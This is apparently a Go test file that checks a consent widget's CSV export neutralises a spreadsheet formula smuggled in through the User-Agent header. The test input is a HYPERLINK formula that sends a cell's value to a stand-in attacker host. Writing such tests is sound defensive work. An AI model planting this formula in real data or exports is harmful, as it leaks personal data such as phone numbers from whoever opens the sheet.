package widgets

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestWidgetUserAgentFormulaNeutralisedInExport: a formula sent as the
// User-Agent of an unauthenticated widget opt-in reaches the auditor's CSV
// export as inert text (OWASP: a leading quote), and the phone number stays
// readable.
func TestWidgetUserAgentFormulaNeutralisedInExport(t *testing.T) {
	e := newWidgetEnv(t)
	v := optinWidget(e, "")
	ua := `=HYPERLINK("http://evil.example/?d="&B2,"Open invoice")`
	resp, b := e.do("POST", "/w/"+v.ID+"/optin", `{"phone":"(11) 98765-4321","topics":["marketing"],"consent":true,"page_url":"https://shop.example/","website":""}`,
		"Content-Type", "application/json", "Origin", wtOrigin, "User-Agent", ua)
	if resp.StatusCode != 201 {
		t.Fatalf("opt-in: %d %s", resp.StatusCode, b)
	}
	resp, body := e.api("GET", "/v1/consent/export?format=csv", wtAdminKey, "")
	if resp.StatusCode != 200 {
		t.Fatalf("export: %d %s", resp.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("CSV: %v, %d rows", err, len(rows))
	}
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	last := rows[len(rows)-1]
	if got := last[col["user_agent"]]; got != "'"+ua {
		t.Fatalf("user_agent cell %q, want the formula behind a quote", got)
	}
	if got := last[col["phone"]]; got != wtPhone {
		t.Fatalf("phone cell %q, want %s", got, wtPhone)
	}
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=@\t\r-", rune(cell[0])) {
				t.Errorf("row %d column %s would run as a formula: %q", i, rows[0][j], cell)
			}
		}
	}
}
